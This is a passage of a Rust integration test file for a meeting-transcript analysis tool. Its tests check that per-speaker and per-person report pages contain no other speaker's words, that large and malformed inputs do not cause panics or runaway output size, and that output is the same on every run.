    turnstat()
        .args(["analyze", "-q", "-f", "json", "--out"])
        .arg(&out)
        .args(&inputs)
        .assert()
        .code(0);
    let mut checked = 0;
    for input in &inputs {
        let t = crate::util::load_ok(input);
        let stem = input.file_stem().unwrap().to_string_lossy().to_string();
        let meeting = out.join(turnstat::output::slug(&stem, "meeting"));
        let report: Value =
            serde_json::from_slice(&std::fs::read(meeting.join("report.json")).unwrap()).unwrap();
        let names = crate::util::speaker_names(&report["meetings"][0]);
        let slugs = turnstat::render::speaker::unique_slugs(&names);
        // Segment texts of 4+ words, per speaker name.
        let mut said: BTreeMap<&str, BTreeSet<String>> = BTreeMap::new();
        for s in &t.segments {
            if s.text.split_whitespace().count() >= 4 {
                said.entry(t.speakers[s.speaker].as_str())
                    .or_default()
                    .insert(s.text.trim().to_string());
            }
        }
        for (name, slug) in names.iter().zip(&slugs) {
            if turnstat::speakers::is_unnamed(name) {
                // Caption change marks and `unknown speaker` stand for no one: no private file.
                assert!(!meeting.join("speakers").join(format!("{slug}.md")).exists());
                continue;
            }
            let md = std::fs::read_to_string(meeting.join("speakers").join(format!("{slug}.md")))
                .unwrap_or_else(|e| panic!("{}: {slug}.md: {e}", meeting.display()));
            let html =
                std::fs::read_to_string(meeting.join("speakers").join(format!("{slug}.html")))
                    .unwrap_or_default();
            let own = said.get(name.as_str()).cloned().unwrap_or_default();
            for (other, texts) in &said {
                if *other == name.as_str() {
                    continue;
                }
                for text in texts.difference(&own) {
                    let page = format!("{}/speakers/{slug}", meeting.display());
                    assert_words_absent(&md, &html, text, &page, other);
                    checked += 1;
                }
            }
        }
    }
    // Fixtures alone give ~800 checks (`unknown speaker` and caption labels get no private
    // file), the corpus files add several thousand.
    let floor = if corpus().is_some() { 1000 } else { 500 };
    assert!(checked > floor, "only {checked} checks");
    let people_checked = person_pages_hold_only_their_own_words(&inputs, dir.path());
    assert!(
        people_checked > floor,
        "only {people_checked} checks of person pages"
    );
}

/// `text` (someone else's words) is in neither `md` nor `html` (`page`.md/.html), raw or
/// escaped the ways the renderers escape.
fn assert_words_absent(md: &str, html: &str, text: &str, page: &str, other: &str) {
    let escaped = turnstat::render::markdown::escape(text);
    assert!(
        !md.contains(text) && !md.contains(escaped.as_str()),
        "{page}.md contains words of {other}: {text:?}"
    );
    let html_escaped = text
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;");
    for variant in [
        text.to_string(),
        html_escaped.clone(),
        html_escaped.replace('\'', "&#39;"),
        html_escaped.replace('\'', "&#x27;"),
    ] {
        assert!(
            !html.contains(variant.as_str()),
            "{page}.html contains words of {other}: {text:?}"
        );
    }
}

/// The same for the person pages of `report --out` (`people/*.md` and `.html`, one person
/// across all the meetings): no segment of 4+ words that anyone else said in any of the
/// meetings, unless the person said the same words too. Returns the number of checks.
fn person_pages_hold_only_their_own_words(inputs: &[PathBuf], dir: &Path) -> usize {
    let out = dir.join("report-out");
    turnstat()
        .args(["report", "-q", "-f", "json", "--out"])
        .arg(&out)
        .args(inputs)
        .assert()
        .code(0);
    // Segment texts of 4+ words, per person (by name key, as the team report merges them).
    let mut said: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    for input in inputs {
        let t = crate::util::load_ok(input);
        for s in &t.segments {
            if s.text.split_whitespace().count() >= 4 {
                said.entry(turnstat::speakers::name_key(&t.speakers[s.speaker]))
                    .or_default()
                    .insert(s.text.trim().to_string());
            }
        }
    }
    let team: Value =
        serde_json::from_slice(&std::fs::read(out.join("team.json")).unwrap()).unwrap();
    let names: Vec<String> = team["people"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["name"].as_str().unwrap().to_string())
        .filter(|n| !turnstat::speakers::is_unnamed(n))
        .collect();
    let slugs = turnstat::render::speaker::unique_slugs(&names);
    let mut checked = 0;
    let mut quoted = 0;
    for (name, slug) in names.iter().zip(&slugs) {
        let md = std::fs::read_to_string(out.join("people").join(format!("{slug}.md")))
            .unwrap_or_else(|e| panic!("people/{slug}.md: {e}"));
        let html = std::fs::read_to_string(out.join("people").join(format!("{slug}.html")))
            .unwrap_or_else(|e| panic!("people/{slug}.html: {e}"));
        assert!(md.contains("This page is for you"), "{slug}");
        quoted += usize::from(md.contains(" You said: “") || md.contains("moments:"));
        let key = turnstat::speakers::name_key(name);
        let own = said.get(&key).cloned().unwrap_or_default();
        for (other, texts) in &said {
            if *other == key {
                continue;
            }
            // Words the person said too (also inside a longer segment of theirs) are theirs.
            for text in texts
                .difference(&own)
                .filter(|t| !own.iter().any(|o| o.contains(t.as_str())))
            {
                assert_words_absent(&md, &html, text, &format!("people/{slug}"), other);
                checked += 1;
            }
        }
    }
    // The pages do quote people (the check is not vacuous).
    assert!(quoted > 5, "only {quoted} person pages quote their person");
    checked
}

/// Regression: the team report looks for a meeting date in the first MiB of each file and
/// cut the text there without regard for UTF-8 boundaries: a file over 1 MiB with a
/// multi-byte character across the limit made `turnstat report` panic (src/dates.rs).
#[test]
fn team_report_reads_files_over_one_mebibyte() {
    let dir = tempfile::tempdir().unwrap();
    let head = "WEBVTT\n\n00:00:01.000 --> 00:00:02.000\nZoë: ";
    let mut text = String::from(head);
    text.push_str(&"a".repeat((1 << 20) - 1 - head.len()));
    text.push_str("é und schöne Grüße\n\n00:00:03.000 --> 00:00:04.000\nZoë: tschüss\n");
    assert_eq!(
        text.as_bytes()[(1 << 20) - 1],
        0xc3,
        "é straddles the first MiB"
    );
    let p = dir.path().join("große-runde_2026-03-02.vtt");
    std::fs::write(&p, &text).unwrap();
    let out = turnstat()
        .args(["report", "-q", "-f", "json"])
        .arg(&p)
        .assert()
        .code(0)
        .get_output()
        .stdout
        .clone();
    let v: Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(v["meetings"][0]["date_source"], "file-name");
    assert_eq!(v["meetings"][0]["date"]["d"], 2);
}

/// Caption files mark every change of speaker with `>>`, and each change becomes a speaker
/// of its own (`unidentified 1`, `unidentified 2`, …): a long captioned session has
/// thousands. Output must stay proportional to the input, not to speakers² or speakers³:
/// the HTML "who interrupts whom" table, in `report.html` and in every `speakers/*.html`,
/// shows at most `MAX_MATRIX_PEOPLE` people (before that bound, 300 changes — a 23 kB
/// input — wrote 2.5 GB).
#[test]
fn many_caption_speakers_keep_the_output_bounded() {
    let dir = tempfile::tempdir().unwrap();
    let mut vtt = String::from("WEBVTT\n\n");
    for i in 0..200u64 {
        vtt.push_str(&format!(
            "00:{:02}:{:02}.000 --> 00:{:02}:{:02}.000\n>> we should ship release {i} today\n\n",
            i * 2 / 60,
            i * 2 % 60,
            (i * 2 + 2) / 60,
            (i * 2 + 2) % 60
        ));
    }
    let input = dir.path().join("council.vtt");
    std::fs::write(&input, &vtt).unwrap();
    let total = out_dir_bytes(&input, dir.path(), 600);
    assert!(
        total < 50_000_000,
        "{total} bytes under --out for a {} byte input",
        vtt.len()
    );
}

/// Two cues 99,990 hours apart (a typo in an hour field, or a hostile file): outputs stay
/// the size of the content, not of the time span (the sentiment trajectory once listed every
/// empty 5-minute window, 168 MB of JSON from a 140-byte file, and the HTML time axis one
/// tick per day).
#[test]
fn far_apart_cues_keep_the_output_small() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("typo.vtt");
    std::fs::write(
        &input,
        "WEBVTT\n\n00:00:00.000 --> 00:00:02.000\n<v Ann>Hello there, this is good.\n\n\
         99990:00:00.000 --> 99990:00:02.000\n<v Bo>Great, a terrible thing.\n",
    )
    .unwrap();
    for format in ["table", "json", "jsonl", "csv", "md", "html"] {
        let out = turnstat()
            .args(["analyze", "-q", "-f", format])
            .arg(&input)
            .timeout(Duration::from_secs(60))
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{format}");
        assert!(
            out.stdout.len() < 100_000,
            "{format}: {} bytes",
            out.stdout.len()
        );
    }
    let total = out_dir_bytes(&input, dir.path(), 60);
    assert!(total < 500_000, "{total} bytes under --out");
}

/// Runs `analyze --out DIR/out` on `input` (exit 0 expected) and returns the bytes written.
fn out_dir_bytes(input: &Path, dir: &Path, timeout_secs: u64) -> u64 {
    let out = dir.join("out");
    turnstat()
        .args(["analyze", "-q", "--out"])
        .arg(&out)
        .arg(input)
        .timeout(Duration::from_secs(timeout_secs))
        .assert()
        .code(0);
    walk(&out)
        .iter()
        .map(|f| std::fs::metadata(f).unwrap().len())
        .sum()
}

/// Files with the same stem in one folder (`x.vtt`, `x.srt`, `x.sbv`, as exports of one
/// meeting in several formats are often kept) get one directory each under `--out`, named in
/// input order: `report --out` wrote them from its workers into the same directory, so one
/// meeting's files replaced another's, differently from run to run.
#[test]
fn same_stem_meetings_are_all_written_the_same_way_every_run() {
    let src = tempfile::tempdir().unwrap();
    let vtt = "WEBVTT\n\n00:00:01.000 --> 00:00:04.000\n<v Ana>We ship the fix on Monday.\n\n00:00:04.500 --> 00:00:08.000\n<v Ben>Good, I will tell the customer.\n";
    let srt = "1\n00:00:01,000 --> 00:00:04,000\nAna: The release slips a week.\n\n2\n00:00:04,500 --> 00:00:09,000\nBen: Then we tell them today.\n";
    std::fs::write(src.path().join("standup.vtt"), vtt).unwrap();
    std::fs::write(src.path().join("standup.srt"), srt).unwrap();
    for cmd in ["analyze", "report"] {
        let mut trees = Vec::new();
        for _ in 0..4 {
            let out = tempfile::tempdir().unwrap();
            turnstat()
                .args([cmd, "-q", "-f", "json", "--out"])
                .arg(out.path())
                .arg(src.path())
                .timeout(Duration::from_secs(120))
                .assert()
                .success();
            let meetings = if cmd == "report" {
                out.path().join("meetings")
            } else {
                out.path().to_path_buf()
            };
            let mut tree = BTreeMap::new();
            for f in walk(&meetings) {
                let rel = f.strip_prefix(&meetings).unwrap().display().to_string();
                tree.insert(rel, std::fs::read(&f).unwrap());
            }
            trees.push(tree);
        }
        let first = &trees[0];
        for name in ["standup", "standup-2"] {
            let json = first
                .get(&format!("{name}/report.json"))
                .unwrap_or_else(|| panic!("{cmd}: no {name}/report.json in {:?}", first.keys()));
            let r: Value = serde_json::from_slice(json).unwrap();
            let source = r["meetings"][0]["source"].as_str().unwrap().to_string();
            // Inputs sort by path: .srt before .vtt.
            let ext = if name == "standup" { ".srt" } else { ".vtt" };
            assert!(source.ends_with(ext), "{cmd}: {name} holds {source}");
        }
        for t in &trees[1..] {
            assert!(
                t == first,
                "{cmd} --out wrote different files on another run"
            );
        }
    }
}
